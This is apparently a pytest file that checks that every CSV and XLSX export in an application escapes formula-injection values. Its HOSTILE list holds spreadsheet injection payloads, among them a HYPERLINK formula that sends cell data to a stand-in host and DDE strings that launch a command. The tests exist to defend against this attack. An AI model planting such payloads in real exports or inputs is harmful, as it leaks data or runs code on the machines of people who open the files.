"""Every CSV/XLSX export escapes formulae (issue 19, finding 3): one writer, walked end to end.

A hostile value — `=HYPERLINK(...)`, `+`, `-`, `@`, a tab or a carriage return first — goes into
the store, through every export route of the app and every export command, and no cell of any
file that comes out starts with one of them. And no module writes CSV or XLSX except through
`lantern.export_safety`.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import duckdb
import pytest

from app_harness import make_app, signed_in
from lantern.export_safety import FORMULA_STARTS
from workbench_harness import complete_graph

SRC = Path(__file__).resolve().parents[2] / "src" / "lantern"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+44 7700 900123",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _unsafe_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _read(path: Path) -> str:
    """The file's text with its line endings as written (a lone CR is a line break to a
    spreadsheet: it must not be hidden by Python's newline translation)."""
    with path.open(encoding="utf-8", newline="") as handle:
        return handle.read()


def _poison_graph(county) -> None:  # type: ignore[no-untyped-def]
    """Every node label in the county's (completed) graph starts like a formula."""
    complete_graph(county.path)
    con = duckdb.connect(str(county.path))
    try:
        ids = [
            r[0] for r in con.execute("SELECT node_id FROM graph_nodes ORDER BY node_id").fetchall()
        ]
        for i, node_id in enumerate(ids):
            con.execute(
                "UPDATE graph_nodes SET label = ? WHERE node_id = ?",
                [HOSTILE[i % len(HOSTILE)], node_id],
            )
    finally:
        con.close()


def test_no_module_writes_csv_or_xlsx_around_the_one_writer() -> None:
    allowed = {SRC / "export_safety.py"}
    # `lantern synth` writes (and moves in time) Interchange input files for the pipeline, not
    # exports: escaping would change the data the pipeline reads.
    inputs = set((SRC / "synth").rglob("*.py"))
    # `lantern adapt` reads returns (workbooks among them) and writes interchange input files
    # that must keep every value as given; its quarantine report goes through escape_row. Its
    # writers write synthetic returns, inputs for `lantern adapt`.
    adapters = SRC / "adapters"
    inputs |= {adapters / "core.py", adapters / "sources.py", adapters / "annex_a.py",
               adapters / "roundtrip.py", adapters / "writers" / "annex_a.py",
               adapters / "writers" / "county.py"}  # fmt: skip
    bypass = []
    for path in SRC.rglob("*.py"):
        if path in allowed | inputs:
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bcsv\.(writer|DictWriter)\(", text):
            bypass.append(str(path.relative_to(SRC)))
        if "openpyxl" in text and "sheet_row" not in text:
            bypass.append(str(path.relative_to(SRC)) + " (xlsx)")
    assert bypass == []


def test_every_app_export_route_escapes_hostile_labels(tmp_path: Path) -> None:
    app, county = make_app(tmp_path, prepare=_poison_graph)
    analyst = signed_in(app, "ana")
    served = [
        f"/networks/{county.network}/export/csv",
        f"/people/{county.kayleigh}/export/csv",
        f"/people/{county.darren}/export/csv",
    ]
    seen_hostile = 0
    for url in served:
        response = analyst.get(url)
        assert response.status_code == 200, url
        with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
            for name in archive.namelist():
                rows = _csv_rows(archive.read(name).decode())
                assert _unsafe_cells(rows) == [], (url, name)
                seen_hostile += sum(cell.startswith("'") for row in rows for cell in row)
    assert seen_hostile >= 3  # the hostile labels were exported, escaped


def test_graph_export_command_escapes_hostile_labels(tmp_path: Path) -> None:
    from lantern.cli import main

    app, county = make_app(tmp_path, prepare=_poison_graph)
    app.state.lantern.analytics.close()  # the command opens the store itself
    out = tmp_path / "net.csv"
    code = main(
        ["graph", "export", "--store", str(county.path), "--network", county.network]
        + ["--format", "csv", "--out", str(out)]
    )
    assert code == 0
    files = sorted(tmp_path.glob("net-*.csv"))
    assert len(files) == 2
    for path in files:
        rows = _csv_rows(_read(path))
        assert _unsafe_cells(rows) == [], path.name
    nodes = _csv_rows(_read(files[1]))
    assert any(cell.startswith("'=HYPERLINK") for row in nodes for cell in row)


def test_quarantine_export_command_escapes_hostile_values(tmp_path: Path) -> None:
    from lantern.cli import main
    from lantern.store.tables import create_store_tables

    store = tmp_path / "q.duckdb"
    con = duckdb.connect(str(store))
    create_store_tables(con)
    con.execute("INSERT INTO loads (load_id, dataset) VALUES ('L1', 'test')")
    for i, value in enumerate(HOSTILE):
        con.execute(
            "INSERT INTO quarantine (load_id, table_name, agency, source_file, line, "
            "column_name, value, message) VALUES ('L1', 'people', 'police', ?, ?, 'name', ?, ?)",
            [value, i, value, value],
        )
    con.close()
    out = tmp_path / "q.csv"
    code = main(["quarantine", "--load", "L1", "--store", str(store), "--export", str(out)])
    assert code == 0
    rows = _csv_rows(_read(out))
    assert len(rows) == len(HOSTILE) + 1
    assert _unsafe_cells(rows) == []


def test_assessment_files_escape_hostile_reasons(tmp_path: Path) -> None:
    """`lantern run --out` and `lantern score --out` write through pipeline.write_outputs."""
    from lantern.pipeline import write_outputs

    app, county = make_app(tmp_path)
    app.state.lantern.analytics.close()
    con = duckdb.connect(str(county.path))
    # The county has the columns the app reads; the files need a few more.
    con.execute("ALTER TABLE assessments ADD COLUMN IF NOT EXISTS records VARCHAR")
    con.execute("ALTER TABLE assessments ADD COLUMN IF NOT EXISTS concern VARCHAR")
    con.execute("ALTER TABLE network_assessments ADD COLUMN IF NOT EXISTS members VARCHAR")
    con.execute("ALTER TABLE network_assessments ADD COLUMN IF NOT EXISTS band VARCHAR")
    con.execute("UPDATE assessments SET top_reasons = ?, records = ?", [HOSTILE[0], HOSTILE[5]])
    con.execute("UPDATE network_assessments SET members = ?", [HOSTILE[2]])
    con.execute(
        "CREATE TABLE IF NOT EXISTS score_persons AS SELECT person_id, record_id FROM persons"
    )
    con.execute("UPDATE score_persons SET record_id = ?", [HOSTILE[3]])
    try:
        counts = write_outputs(con, tmp_path / "out")
    finally:
        con.close()
    assert counts
    for name in counts:
        rows = _csv_rows(_read(tmp_path / "out" / name))
        assert _unsafe_cells(rows) == [], name


def test_persons_csv_and_lead_table_escape_hostile_values(tmp_path: Path) -> None:
    from lantern.evaluate.victim_leads import write_table
    from lantern.resolve.export import write_persons_csv

    con = duckdb.connect()
    con.execute("CREATE TABLE persons (person_id VARCHAR, record_id VARCHAR)")
    con.executemany("INSERT INTO persons VALUES (?, ?)", [[v, v] for v in HOSTILE])
    write_persons_csv(con, tmp_path / "persons.csv")
    write_table([{"child": v, "lead_days": v} for v in HOSTILE], tmp_path / "lead.csv")
    for name in ("persons.csv", "lead.csv"):
        rows = _csv_rows(_read(tmp_path / name))
        assert len(rows) > len(HOSTILE) - 1
        assert _unsafe_cells(rows) == [], name


def test_review_xlsx_and_tiers_csv_escape_hostile_values(tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    from lantern.review import render

    report = _hostile_report()
    xlsx = render.write_xlsx(report, tmp_path / "review.xlsx")
    book = openpyxl.load_workbook(xlsx)
    cells = [
        str(c.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, str)
    ]
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    tiers = render.write_tiers_csv(report, tmp_path / "tiers.csv")
    assert _unsafe_cells(_csv_rows(_read(tiers))) == []


def _hostile_report():  # type: ignore[no-untyped-def]
    """A review report whose every text cell is hostile (the shape render.py writes)."""
    from datetime import date, datetime

    from lantern.review import render
    from lantern.review.report import ReportTable, ReviewReport, Section

    columns = tuple(render.TIERS_CSV_COLUMNS)
    tiers = ReportTable(
        key="tiers",
        title=HOSTILE[0],
        description=HOSTILE[1],
        columns=columns,
        rows=tuple(
            tuple(HOSTILE[(i + j) % len(HOSTILE)] for j in range(len(columns))) for i in range(6)
        ),
    )
    return ReviewReport(
        title=HOSTILE[0],
        period_from=date(2010, 1, 1),
        period_to=date(2011, 1, 1),
        generated_at=datetime(2011, 1, 2),
        headline=[(HOSTILE[2], "3")],
        sections=[Section(key="s", title="s", intro="", tables=(tiers,))],
        notes=[HOSTILE[4]],
    )
